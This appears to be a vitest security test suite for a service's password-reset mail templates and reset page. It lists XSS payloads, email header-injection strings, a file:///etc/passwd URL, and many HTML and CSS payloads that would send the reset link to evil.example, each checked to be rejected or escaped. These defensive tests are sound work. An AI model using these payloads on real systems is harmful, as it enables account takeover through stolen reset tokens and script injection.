import { afterEach, describe, expect, test } from 'vitest';
import { db } from '../../../src/db/client.ts';
import type { Role } from '../../../src/lib/access.ts';
import { MINUTE } from '../../../src/lib/time.ts';
import { APPLICATION, clock, running, useApp } from '../../support/app/app.ts';
import { graphql } from '../../support/clients/graphql.ts';
import { rawRequest } from '../../support/clients/raw-http.ts';
import { errorIn, signedInAdministrator } from '../../support/fixtures/administrators.ts';
import { errorOf, execute } from '../../support/fixtures/chat.ts';
import { linkIn, mailsTo } from '../../support/fixtures/mails.ts';
import { apiKey, createUser } from '../../support/fixtures/users.ts';

useApp();

const UPDATE = 'mutation ($input: MailTemplateInput!) { updateMailTemplate(input: $input) { subject text html } }';
const PREVIEW = 'query ($input: MailTemplateInput!) { mailPreview(input: $input) { subject text html } }';
const TEXTS = { kind: 'PASSWORD_RESET', subject: 'Hi', text: '{{link}}' };

const SCRIPT = `"'><script>alert(1)</script><img src=x onerror=alert(1)>`;
const HEADERS = 'x\r\nBcc: mallory@example.org\r\n\r\nAnother text';

let count = 0;

/** The mail to a proven address of a user with these values, which no rule has checked. */
async function mailTo(values: { fullName?: string; login?: string; application?: string }): Promise<string> {
  const { application = 'test', ...user } = values;
  const email = `reader${++count}@example.org`;
  const { id } = await createUser({ email });
  await db.user.updateMany({ where: { id }, data: user });
  await db.application.update({ where: { id: APPLICATION.id }, data: { name: application } });
  await execute('mutation ($email: String!) { requestPasswordReset(email: $email) }', { email }, apiKey);
  clock.advance(MINUTE);
  const [mail] = await mailsTo(email);
  return mail!;
}

const headersIn = (mail: string) =>
  mail
    .slice(0, mail.indexOf('\r\n\r\n'))
    .replaceAll(/\r\n[ \t]+/g, ' ')
    .split('\r\n');

/** Without the line breaks that the encoding adds. */
const partsOf = (mail: string) =>
  mail.split(/^--\S+\r\n/m).map((part) => part.replaceAll('=\r\n', '').replaceAll('=3D', '='));

afterEach(async () => {
  await db.mailTemplate.deleteMany({});
  await db.application.update({ where: { id: APPLICATION.id }, data: { name: 'test', appUrl: null } });
});

describe('#62 injection by texts of mails and links of apps', () => {
  test.each(['application', 'fullName', 'login'] as const)(
    '%s adds no header, paragraph or recipient',
    async (field) => {
      const input = {
        ...TEXTS,
        subject: '{{application}} {{name}} {{login}}',
        text: '{{application}} {{name}} {{login}}\n{{link}}',
      };
      await execute(UPDATE, { input }, apiKey);
      const mail = await mailTo({ [field]: HEADERS });
      const names = headersIn(mail).map((line) => line.split(':', 1)[0]!.toLowerCase());
      expect(names).not.toContain('bcc');
      expect(names.filter((name) => name === 'to' || name === 'subject')).toHaveLength(2);
      const body = mail.slice(mail.indexOf('\r\n\r\n') + 4).replaceAll('=\r\n', '');
      expect(body).toContain('x Bcc: mallory@example.org Another text');
      expect(body).not.toMatch(/^(Bcc:|Another)/m);
    },
  );

  test.each(['\r\nBcc: mallory@example.org', '\nX-Header: 1', '\u0085X-Header: 1', '\u001b[2J'])(
    'a subject with %j is refused, also in previews',
    async (text) => {
      const input = { ...TEXTS, subject: `Hi${text}there` };
      for (const document of [UPDATE, PREVIEW]) {
        expect(await errorOf(document, { input }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
      }
    },
  );

  test.each(['application', 'fullName', 'login'] as const)(
    '%s adds no element to the HTML of a mail',
    async (field) => {
      const html = '<p title="{{name}}">{{application}} {{name}} {{login}}</p><a href="{{link}}">Set a password</a>';
      await execute(UPDATE, { input: { ...TEXTS, html } }, apiKey);
      const rich = partsOf(await mailTo({ [field]: SCRIPT })).find((part) => part.includes('text/html'))!;
      expect([...rich.matchAll(/<(\w+)/g)].map(([, name]) => name)).toEqual(['p', 'a']);
      expect(rich).toContain('&lt;script&gt;');
      expect(rich).not.toMatch(/title="[^"]*"[^>]*on\w+=/);
    },
  );

  test('a placeholder in a value is not replaced', async () => {
    await execute(UPDATE, { input: { ...TEXTS, text: 'Dear {{name}}, open {{link}}' } }, apiKey);
    const mail = await mailTo({ fullName: '{{link}} {{login}}' });
    expect(mail.replaceAll('=\r\n', '')).toContain('Dear {{link}} {{login}}, open http');
  });

  test('a mail to an address that is not proven contains no text of the user', async () => {
    const email = 'victim@example.org';
    const { id } = await createUser({ email, full_name: 'You won: evil.example' });
    await db.user.updateMany({ where: { id }, data: { verifiedEmail: null } });
    const input = { ...TEXTS, subject: '{{name}}!', text: '{{name}} {{login}} {{link}}' };
    await execute(UPDATE, { input }, apiKey);
    await execute('mutation ($email: String!) { requestPasswordReset(email: $email) }', { email }, apiKey);
    expect((await mailsTo(email))[0]).not.toContain('evil.example');
  });

  test.each([
    'javascript:alert(1)',
    'JavaScript://x/%0aalert(1)',
    ' javascript://x/%0aalert(1)',
    'java\tscript://alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data://text/html,<script>alert(1)</script>',
    'vbscript://x',
    'file:///etc/passwd',
    'blob://x',
    '//evil.example',
    'https://user:password@evil.example',
    'https://shop.example\\@evil.example',
  ])('the app cannot be at %j, and the page of a reset does not link to it', async (appUrl) => {
    const update = 'mutation ($url: String) { updateApplication(input: { appUrl: $url }) { id } }';
    expect(await errorOf(update, { url: appUrl }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
    // As an archive of another service might contain it.
    const mail = await mailTo({});
    await db.application.update({ where: { id: APPLICATION.id }, data: { appUrl } });
    const token = new URL(linkIn(mail)).searchParams.get('reset_token');
    const find = 'query ($token: String!) { passwordReset(token: $token) { appUrl } }';
    expect(await execute(find, { token }, apiKey)).toEqual({ passwordReset: { appUrl: null } });
    const { text } = await rawRequest('GET', linkIn(mail).slice(running.url.length));
    expect(text).not.toContain('Back to');
  });

  test('the page of a reset shows names and the address of the app as text', async () => {
    const mail = await mailTo({ login: SCRIPT, application: SCRIPT });
    await db.application.update({ where: { id: APPLICATION.id }, data: { appUrl: `app.shop://x/"><script>` } });
    const { text } = await rawRequest('GET', linkIn(mail).slice(running.url.length));
    expect(text).toContain('&lt;script&gt;alert(1)');
    expect(text.match(/<script/g)).toHaveLength(1);
    // Values of attributes may contain anything but quotes.
    expect(text.replace(/"[^"]*"/g, '""')).not.toMatch(/<img|<[^>]*\son\w+=/);
  });

  test.each<Role>(['support', 'viewer'])('the role %s reads and changes no mail', async (role) => {
    const administrator = await signedInAdministrator(role);
    const input = TEXTS;
    for (const document of [
      UPDATE,
      PREVIEW,
      'mutation { resetMailTemplate(kind: PASSWORD_RESET) { kind } }',
      '{ mailTemplates { text } }',
      'mutation { testMail(to: "mallory@example.org") { answer } }',
    ]) {
      expect([document, errorIn(await graphql(document, { input }, administrator))?.code]).toEqual([
        document,
        'FORBIDDEN',
      ]);
    }
    expect(await mailsTo('mallory@example.org')).toEqual([]);
  });
});

describe('#69 the name of the operator for rent', () => {
  const TEST = `mutation ($to: String, $sample: MailTemplateKind) { testMail(to: $to, sample: $sample) { isAccepted } }`;
  const link = '{{link}}';

  test.each([
    `<img src="https://evil.example/?${link}">`,
    `<img src=x srcset="https://evil.example/?{{ link }} 2x">`,
    `<a href="https://evil.example/?${link}">Set a password</a>`,
    `<a href="https://evil.example/" href="${link}">Set a password</a>`,
    `<a href="${link}" ping="https://evil.example/">Set a password</a>`,
    `<area href="${link}">`,
    `<p style="background:url(https://evil.example/?${link})">x</p>`,
    `<style>p { background: url(https://evil.example/?${link}) }</style>`,
    `<!--[if mso]><img src="https://evil.example/?${link}"><![endif]-->`,
    `<form action="https://evil.example/"><textarea name="t">${link}</textarea><button>Go on</button></form>`,
    `<form action="https://evil.example/"><input name="t" value="${link}"><button>Go on</button></form>`,
    `<form action="https://evil.example/"><select><option>${link}</option></select></form>`,
    `<meta http-equiv="refresh" content="0; url=https://evil.example/?${link}">`,
    `<iframe src="https://evil.example/?${link}"></iframe>`,
    `<svg><a href="https://evil.example/?${link}"></a></svg>`,
    `<p>https://evil.example/?${link}</p>`,
    `<p>https://evil.example/?<b>${link}</b></p>`,
    `<p>https://evil.example/?(${link})</p>`,
    // Braces as character references are no placeholder, so they must not count in place of one.
    `<img src="https://evil.example/?${link}"><a href="&#123;{link}}">Set a password</a>`,
    `<style>a[href*="token=a"] { background: url(https://evil.example/a) }</style><a href="${link}">x</a>`,
    `<style><!-- a[href*="token=a"] {} --></style><a href="${link}">x</a>`,
    `<style>x<y{} a[href*="token=a"] {}</style><a href="${link}">x</a>`,
    `<style>@\\69mport "https://evil.example/x.css"</style><a href="${link}">x</a>`,
    `<link rel="stylesheet" href="https://evil.example/x.css"><a href="${link}">x</a>`,
    // What tokens take for the text of an element is markup for a parser.
    `<select><xmp><input type=image src='https://evil.example/?t=</xmp></select> ${link} '>`,
    `<frameset><xmp><frame src='https://evil.example/?t=</xmp></frameset> ${link} '>`,
    `<noscript><i title="</noscript><img src='https://evil.example/?t="></noscript> ${link} '>`,
    `<select><xmp><input><style>a[href*="a"]{}</style></xmp></select><a href="${link}">x</a>`,
    `<template><style></template> ${link}`,
    `<style>@font-face { font-family: x; src: url(https://evil.example/a); unicode-range: U+61 }</style>${link}`,
    `<!--[if mso]><img src="https://evil.example/?t=<![endif]--> ${link} ">`,
    `<p>https://evil.example/?t=\uFEFF${link}</p>`,
    `<p>https://evil.example/?t=\u00A0${link}</p>`,
  ])('no other server gets the link of a mail: %s', async (html) => {
    for (const document of [UPDATE, PREVIEW]) {
      const input = { ...TEXTS, html: `<p>Open ${link}</p>${html}` };
      expect(await errorOf(document, { input }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
    }
  });

  test.each([
    'https://evil.example/?t={{link}}',
    'evil.example/{{ link }}',
    '(https://evil.example/?({{link}}))',
    'x{{link|y}}',
  ])('a plain text does not prolong another address: %s', async (text) => {
    const input = { ...TEXTS, text };
    expect(await errorOf(UPDATE, { input }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
  });

  test('a text that was stored before these rules, or imported, is replaced by that of the service', async () => {
    await execute(UPDATE, { input: { ...TEXTS, text: 'Own text {{link}}' } }, apiKey);
    await db.mailTemplate.updateMany({ data: { html: '<img src="https://evil.example/?{{link}}">{{link}}' } });
    const mail = await mailTo({});
    expect(mail).not.toContain('evil.example');
    expect(mail).toContain('The link works once.');
  });

  test('a text may contain the link as a word, in brackets and as the address of a link', async () => {
    const html = `<style>@media (max-width: 600px) { p { color: red } }</style>
      <table><tr><td>Open</td><td>${link}</td></tr></table><p>(<b>${link}</b>) or <a class="button" href=" {{ link }} ">here</a></p>`;
    const input = { ...TEXTS, text: `Open <${link}>, or\n${link}.`, html };
    expect((await execute(UPDATE, { input }, apiKey)).updateMailTemplate).toMatchObject({ html });
  });

  test('a mail of the application goes to the administrator who asks for it and to no other person', async () => {
    const developer = await signedInAdministrator('developer');
    const strangers = ['stranger@example.org', `${developer.email}.evil.example`, ` x${developer.email}`];
    for (const as of [developer, apiKey]) {
      for (const to of [...strangers, ...(as === apiKey ? [developer.email] : [])]) {
        const refused = await errorOf(TEST, { to, sample: 'PASSWORD_RESET' }, as);
        expect([to, refused]).toMatchObject([to, { code: 'UNPROCESSABLE' }]);
      }
    }
    expect(await errorOf(TEST, { sample: 'PASSWORD_RESET' }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
    expect(await mailsTo('stranger@example.org')).toEqual([]);
    await execute(TEST, { to: developer.email.toUpperCase(), sample: 'PASSWORD_RESET' }, developer);
  });

  test('each test mail leaves an entry with its recipient', async () => {
    const developer = await signedInAdministrator('developer');
    await execute(TEST, { to: 'reader@example.org' }, developer);
    await execute(TEST, { to: 'reader@example.org' }, apiKey);
    const where = { applicationId: APPLICATION.id, subject: 'TestMail', subjectId: 'reader@example.org' };
    const entries = await db.auditEntry.findMany({ where, orderBy: { id: 'asc' } });
    expect(entries).toMatchObject([
      { action: 'create', actorKind: 'administrator', actorId: developer.id, after: { sample: null } },
      { action: 'create', actorKind: 'apiKey' },
    ]);
  });
});
